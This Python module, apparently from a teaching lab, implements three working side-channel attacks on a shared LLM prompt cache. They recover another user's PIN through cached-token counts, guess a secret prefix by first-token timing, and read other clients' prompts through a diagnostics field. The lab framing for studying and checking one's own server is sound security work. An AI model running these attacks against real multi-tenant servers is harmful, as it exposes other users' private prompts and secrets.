"""Three attacks on a shared prompt cache, run from the attacker's key only (loopback, a bounded
number of requests), for notebook 16 and anyone checking a server of their own:

- ``pin_by_cached_tokens`` (metadata): digits that follow a known prefix in someone else's prompt,
  one guess a query: the guess is right when ``cached_tokens`` covers it (the probe ends in a
  filler, so the cached count stops exactly after a right digit). At most 10 queries a digit.
- ``secret_by_timing`` (timing only): which of K candidates someone placed before a known long
  tail: each candidate + tail is sent once, the fastest first token names the secret (K queries).
- ``prompt_by_diagnostics`` (diagnostics): another client's prompt text through
  ``prompt_cache_options.comparison_response_id`` and the ``previous_text`` kvlab serve answers,
  with response ids read from ``/kvlab/requests`` (issue 33's transcript).

Example:
    >>> victim.send("My PIN is 482913. Keep it safe.")
    >>> pin_by_cached_tokens(url, "attacker", known="My PIN is ", digits=6, model=m).recovered
    '482913'
"""

from __future__ import annotations

from dataclasses import dataclass, field

import httpx

from ..primitives.chat_template import render
from ..primitives.display import summary_html
from .probe import Probe

DIGITS = "0123456789"


@dataclass
class Attack:
    """What an attack got: the ``recovered`` text, whether it is the ``secret``, the ``queries``
    it sent and its per-query evidence (``trace``: (guess, cached tokens or TTFT seconds))."""

    name: str
    recovered: str
    secret: str
    queries: int
    trace: list = field(default_factory=list)

    @property
    def success(self) -> bool:
        return bool(self.secret) and self.recovered == self.secret

    @property
    def leaked(self) -> int:
        """Characters of the secret the attack saw: all it recovered when that is a piece of the
        secret, else how many leading characters it got right."""
        return len(self.recovered) if self.recovered and self.recovered in self.secret else self.correct_prefix

    @property
    def correct_prefix(self) -> int:
        """How many leading characters of the secret were recovered."""
        n = 0
        for a, b in zip(self.recovered, self.secret):
            if a != b:
                break
            n += 1
        return n

    def __repr__(self) -> str:
        return (f"Attack({self.name}: {'recovered' if self.success else 'got'} {self.recovered!r} of {self.secret!r} "
                f"in {self.queries} queries)")

    def _repr_html_(self) -> str:
        return summary_html(repr(self), code=True)


def pin_by_cached_tokens(url: str, key: str | None, *, known: str, digits: int, model, secret: str = "",
                         budget: int = 60, filler: str = "#") -> Attack:
    """Attack A (module docstring). ``model`` (the served model, public) renders the chat template
    and counts the tokens before each guessed digit; ``secret`` is only for scoring."""
    head = render(model.tokenizer, [{"role": "user", "content": "\x00"}]).split("\x00")[0]
    found, queries, trace = "", 0, []
    with Probe(url, key) as attacker:
        for _ in range(digits):
            before = len(model.tokenizer.encode(head + known + found, add_special_tokens=False))
            hit = None
            for d in DIGITS:
                if queries >= budget:
                    break
                cached = attacker.probe(known + found + d + filler).cached
                queries += 1
                trace.append((found + d, cached))
                if cached is not None and cached > before:  # the cache covers the digit: it was sent
                    hit = d
                    break
            if hit is None:
                break
            found += hit
    return Attack("pin_by_cached_tokens", found, secret, queries, trace)


def secret_by_timing(url: str, key: str | None, *, candidates, tail: str, secret: str = "") -> Attack:
    """Attack B (module docstring): one probe a candidate, the fastest first token wins."""
    trace = []
    with Probe(url, key) as attacker:
        for c in candidates:
            trace.append((c, attacker.probe(f"{c} {tail}").ttft_s))
    best = min(trace, key=lambda t: t[1])[0]
    return Attack("secret_by_timing", best, secret, len(trace), trace)


def prompt_by_diagnostics(url: str, key: str | None, *, guess: str, known_ids=(), secret: str = "") -> Attack:
    """Attack C (module docstring): every response id the attacker's key lists (plus
    ``known_ids``, e.g. learnt elsewhere) compared with ``guess``; what ``previous_text.after``
    shows of each is the recovered text."""
    headers = {"Authorization": f"Bearer {key}"} if key else {}
    with httpx.Client(timeout=60, headers=headers) as http:
        listed = http.get(url + "/kvlab/requests").json().get("requests", [])
        ids = list(dict.fromkeys([r["response_id"] for r in listed if r.get("response_id")] + list(known_ids)))
        got, trace = "", []
        for rid in ids:
            r = http.post(url + "/v1/chat/completions", json={
                "model": "m", "max_tokens": 1, "messages": [{"role": "user", "content": guess}],
                "prompt_cache_options": {"comparison_response_id": rid}}).json()
            diag = r.get("prompt_cache_diagnostics") or {}
            after = ((diag.get("kvlab") or {}).get("previous_text") or {}).get("after") or ""
            trace.append((rid, diag.get("type"), after))
            if len(after) > len(got):
                got = after
    return Attack("prompt_by_diagnostics", got, secret, len(ids), trace)
